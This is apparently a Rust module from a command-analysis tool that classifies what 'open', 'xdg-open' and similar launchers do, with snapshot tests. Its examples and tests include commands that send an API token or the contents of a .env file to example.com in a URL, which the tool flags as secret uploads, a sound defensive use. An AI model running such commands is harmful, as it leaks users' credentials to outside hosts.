//! What is opened by the program that the desktop has for it: an address in a browser, a file, an application.

use countersign_model::verbs;

use super::{Family, lookups, opaque, web};
use crate::context::Context;
use crate::invocation::Invocation;
use crate::word::Word;

pub(super) const FAMILY: Family = Family {
    programs: &["open", "xdg-open", "wslview", "sensible-browser", "x-www-browser", "gio-open", "gnome-open", "kde-open", "explorer.exe"],
    about: "An address that is opened is fetched by a browser, with whatever secret it carries; a document is shown. What \
        may start a program, an application by its name or a file that can be one, is opaque.",
    examples: &[
        "open http://localhost:3000",
        "xdg-open coverage/index.html",
        "open https://example.com/docs",
        r#"xdg-open "https://example.com/?k=$API_TOKEN""#,
        "open -R target/report.pdf",
        "open -a Terminal",
        "open install.command",
        "open --help",
    ],
    effects,
};

/// What names of documents end in, sorted.
const DOCUMENTS: &[&str] = &[
    "bmp", "css", "csv", "doc", "docx", "gif", "htm", "html", "ico", "jpeg", "jpg", "json", "key", "log", "md", "mov", "mp3", "mp4", "numbers", "odt", "pages", "pdf", "png", "ppt", "pptx", "rtf",
    "svg", "tif", "tiff", "toml", "tsv", "txt", "wav", "webm", "webp", "xls", "xlsx", "xml", "yaml", "yml",
];

fn effects(invocation: &Invocation, context: &mut Context<'_>) {
    let program = invocation.program.as_str();
    let is_apple = program == "open";
    let has = |names: &[&str]| invocation.words.iter().any(|word| names.contains(&word.text()));
    if invocation.words.is_empty() || has(&["--help", "--version", "--manual"]) {
        context.program(verbs::EXEC_READ, program);
        return;
    }
    if is_apple && (has(&["-a", "-b", "--args", "-f", "--env", "-n"]) || invocation.words.iter().any(|word| word.text().starts_with("-a") || word.text().starts_with("-b"))) {
        lookups::carried(&invocation.words, context);
        opaque(invocation, "it starts an application", context);
        return;
    }
    let reveals = is_apple && has(&["-R", "--reveal"]);
    for word in invocation.words.iter().filter(|word| !word.text().starts_with('-')) {
        one(word, reveals, invocation, context);
    }
}

fn one(word: &Word, reveals: bool, invocation: &Invocation, context: &mut Context<'_>) {
    let text = word.text();
    let scheme = text.split_once(':').map(|(scheme, _)| scheme.to_ascii_lowercase());
    match scheme.as_deref() {
        Some("http" | "https") => {
            lookups::carried(std::slice::from_ref(word), context);
            web::request(&word.value, Some("GET"), false, &[], context);
            context.program(verbs::EXEC_READ, &invocation.program);
            return;
        }
        Some("mailto" | "tel") => {
            context.program(verbs::EXEC_READ, &invocation.program);
            return;
        }
        Some("file") => {}
        Some(scheme) if scheme.len() > 1 && scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'+' | b'.')) => {
            opaque(invocation, "it hands an address to the application that has asked for its kind", context);
            return;
        }
        Some(_) | None => {}
    }
    let name = text.trim_end_matches('/').rsplit('/').next().unwrap_or(text);
    let ending = name.rsplit_once('.').map(|(_, ending)| ending.to_ascii_lowercase());
    let is_document = ending.as_deref().is_some_and(|ending| DOCUMENTS.binary_search(&ending).is_ok());
    let is_directory = matches!(text, "." | ".." | "./" | "~") || text.ends_with('/') && !name.contains('.');
    if word.known().is_some() && (is_document || is_directory || reveals) {
        context.program(verbs::EXEC_READ, &invocation.program);
        if is_document && !reveals {
            context.read_value(&word.value.strip_prefix("file://").unwrap_or_else(|| word.value.clone()));
        }
        return;
    }
    lookups::carried(std::slice::from_ref(word), context);
    opaque(invocation, "it may start a program", context);
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use crate::fixture::check;

    #[test]
    fn what_is_shown() {
        assert!(super::DOCUMENTS.is_sorted());
        assert_snapshot!(check("open http://localhost:3000/x; xdg-open https://example.com; open coverage/index.html; open .; open -R target/tool; open --help"), @"
        net.read http://localhost:3000/x, read
        exec.read open, read
        net.read https://example.com, read
        exec.read xdg-open, read
        fs.read /repo/coverage/index.html, read
        ");
        assert_snapshot!(check(r#"xdg-open "https://example.com/?k=$API_TOKEN"; open "https://example.com/$(cat .env)""#), @"
        secret.read environment:API_TOKEN, read
        net.upload *, send, partial
        net.read example.com, read
        exec.read xdg-open, read
        net.upload example.com, send
        secret.read /repo/.env, read
        exec.read open, read
        ");
    }

    #[test]
    fn what_may_run() {
        for command in ["open -a Terminal x.sh", "open install.command", "xdg-open ./tool", "open x.pkg", "open vscode://x", "open \"$FILE\"", "open -b com.apple.Terminal", "open Shop.app"] {
            assert!(check(command).contains("opaque"), "{command}: {}", check(command));
        }
    }
}
